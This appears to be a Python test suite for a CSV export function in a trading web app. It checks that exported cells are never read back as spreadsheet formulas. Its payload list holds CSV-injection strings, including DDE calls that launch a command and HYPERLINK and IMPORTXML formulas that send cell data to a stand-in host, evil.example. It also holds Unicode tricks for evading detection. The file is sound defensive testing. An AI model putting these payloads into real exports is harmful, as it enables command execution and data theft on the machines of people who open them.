"""Nothing that a spreadsheet opens from an export runs: a corpus, and any text at all, read back as others read it."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import tradewright.web
from tradewright.web.csv_text import csv_line

# OWASP's "CSV Injection", its payloads as published, and what sheets of other scripts and locales add to them.
CORPUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Error: click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹢1",
    "﹣1",
    "﹦1",
    "﹫SUM(1)",
    "\u22121+1",
    "⁼1",
    "⁺1",
    '"=1+1',
    '";=1+1;"',
    "a;=1+1",
    "a; =1+1",
    "a\t=1+1",
    "a|=1+1",
    "a\n=1+1",
    "a\r\n=1+1;@SUM(1)",
    "a\u2028=1+1",
    "a;\n;=1+1",
    "+5",
    "-",
    "--5",
    "-1e5",
    "-.5",
    "-12.5%",
    "- 12.5",
    "-12.5\n",
    "-１２",
]
NUMBERS = ["0", "-12.5", "60412.5", "-0.00000001", "123456789012345678901234.000000000000000001"]
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
_SEEN_FIRST = re.compile(r"[=+\-@\u2212]")


def runs(cell: str) -> bool:
    """Whether some spreadsheet might take the cell for a formula; a blank that is cut off first may only hide one."""
    return cell[:1] in ("\t", "\r", "\n") or is_formula(cell)


def is_formula(cell: str) -> bool:
    """Written independently of what is tested."""
    seen = "".join(each for each in cell if unicodedata.category(each)[0] not in ("C", "Z"))
    return bool(_SEEN_FIRST.match(unicodedata.normalize("NFKC", seen).lstrip('"'))) and not _NUMBER.fullmatch(cell)


def read(line: str) -> list[str]:
    ((*cells,),) = csv.reader(io.StringIO(line, newline=""), strict=True)
    return cells


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_of_the_corpus_is_a_formula_and_the_text_is_still_there(text: str) -> None:
    assert runs(text) or any(runs(part) for part in re.split(r"[;\t|\n\r\u2028]", text)), "else it tests nothing"
    first, cell, last = read(csv_line(["BTCUSDT", text, "-1.5"]))
    assert (first, last) == ("BTCUSDT", "-1.5")
    assert not runs(cell)
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("number", NUMBERS)
def test_plain_decimals_stay_numbers(number: str) -> None:
    assert csv_line(["x", number, None]) == f"x,{number},\r\n"


def test_harmless_text_is_left_alone_and_quoted_where_the_format_wants_it() -> None:
    cells = ['He said "buy", so I did', "вход по тренду — 2 %", "a-b@c=d+e", "2026-11-26T09:30:00.000Z", ""]
    line = csv_line(cells)
    assert read(line) == cells
    assert line == ('"He said ""buy"", so I did","вход по тренду — 2 %","a-b@c=d+e",2026-11-26T09:30:00.000Z,\r\n')


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=4))
def test_whatever_is_written_the_record_is_whole_and_no_cell_of_it_runs(cells: list[str]) -> None:
    line = csv_line(["1", *cells, "end"])
    found = read(line)
    assert [cell.replace("'", "") for cell in found] == ["1", *(cell.replace("'", "") for cell in cells), "end"]
    assert not any(runs(cell) for cell in found)


@given(st.text(alphabet="=+-@＝;\t|,\"'\r\n a1", max_size=12))
def test_a_sheet_that_separates_by_something_else_finds_no_formula_either(text: str) -> None:
    """It honours no quotes that do not stand at the beginning of what it takes for a cell."""
    line = csv_line(["1", text, "end"])
    for separator in ";\t|":
        for record in re.split(r"[\r\n]", line):
            assert not any(is_formula(part) for part in record.split(separator)), (separator, record)


def test_every_module_that_answers_with_csv_writes_it_by_this_one() -> None:
    """A new export that wrote its own lines would bring the formulas back (promise M6)."""
    web = Path(tradewright.web.__file__).parent
    answering = {path.name: path.read_text() for path in web.rglob("*.py") if "text/csv" in path.read_text()}
    assert answering
    assert [name for name, source in answering.items() if "csv_line" not in source and "exports" not in source] == []
